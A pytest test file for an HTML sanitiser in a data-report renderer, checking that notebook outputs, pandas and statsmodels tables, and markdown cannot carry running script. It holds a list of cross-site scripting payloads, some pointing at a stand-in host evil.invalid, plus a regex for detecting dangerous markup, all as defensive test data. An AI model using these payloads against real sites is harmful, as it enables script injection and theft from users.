"""Nothing that a customer, a library or a notebook puts into HTML can run."""

import re

import made_report
import numpy as np
import pandas as pd
import pytest
import statsmodels.formula.api as smf
from hypothesis import given
from hypothesis import strategies as st
from nbformat.v4 import new_output

from analysis.report.outputs import render_markdown, render_output
from analysis.report.sanitise import clean_html

DANGER = re.compile(
    r"<(?:script|style|iframe|object|embed|svg|math|form|input|link|meta|base)\b"
    r"|<[^>]*\son\w+\s*=|javascript:|<[^>]*\sstyle\s*=|<[^>]*\ssrc\s*=\s*['\"]?(?!data:)"
    r"|<[^>]*\shref\s*=\s*['\"]?(?:data|vbscript|//)",
    re.IGNORECASE,
)
ATTACKS = [
    made_report.HOSTILE,
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.invalid/pixel.png'>",
    "<img srcset='https://evil.invalid/pixel.png 2x' src='data:text/html,x'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='//evil.invalid'>x</a>",
    "<p style='background:url(https://evil.invalid)'>x</p>",
    "<svg><animate onbegin=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<form action='https://evil.invalid'><input name=a></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid'>",
    "<base href='https://evil.invalid/'>",
    "<details ontoggle=alert(1) open>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_disarmed(attack):
    for markup in (clean_html(attack), render_markdown(attack, is_ours=True)):
        assert not DANGER.search(markup), markup


@given(st.lists(st.sampled_from([*ATTACKS, "<table>", "</td>", "'\">", "<b>"])))
def test_cleaning_joined_attacks_is_safe_and_final(parts):
    once = clean_html("".join(parts))
    assert not DANGER.search(once)
    assert clean_html(once) == once


def test_tables_of_libraries_are_disarmed_and_kept():
    name = made_report.HOSTILE
    frame = pd.DataFrame({name: [1.0, 2.0]}, index=[name, "b"])
    frame.columns.name = name
    styled = frame.style.format(escape="html").set_caption(name)
    for markup in (frame.to_html(escape=False), styled.to_html()):
        output = new_output("display_data", data={"text/html": markup})
        page = render_output(output)
        assert not DANGER.search(page)
        assert page.count("<table") == 1


def test_a_regression_summary_is_disarmed():
    data = pd.DataFrame(
        {"y": np.arange(24.0) % 5, "x": ["<script>1</script>", "b"] * 12}
    )
    summary = smf.ols("y ~ C(x)", data).fit().summary().as_html()
    page = render_output(new_output("display_data", data={"text/html": summary}))
    assert not DANGER.search(page)
    assert page.count("<table") == summary.count("<table")


def test_what_a_report_needs_is_kept():
    markup = (
        '<table class="figures"><caption>Score</caption><thead><tr><th scope="col">a'
        '</th></tr></thead><tbody><tr><th scope="row">b</th><td class="number">'
        '<a class="figure" href="#figure-nps" data-figure="nps">+31</a></td></tr>'
        "</tbody></table>"
    )
    assert clean_html(markup) == markup
    assert clean_html('<p id="figure-nps">x</p>') == "<p>x</p>"


def test_only_the_analyst_may_link_outside():
    words = "[paper](https://example.org/a)"
    assert "https://example.org/a" in render_markdown(words, is_ours=True)
    output = new_output("display_data", data={"text/markdown": words})
    assert "example.org" not in render_output(output)


def test_an_image_keeps_its_words():
    words = {"alt": 'A "dot" <b>', "caption": "<script>1</script> Score"}
    output = new_output(
        "display_data", data={"image/svg+xml": "<svg/>"}, metadata=words
    )
    page = render_output(output)
    assert 'alt="A &quot;dot&quot;' in page
    assert "<figcaption>&lt;script&gt;1&lt;/script&gt; Score</figcaption>" in page
    assert "data:image/svg+xml;base64," in page
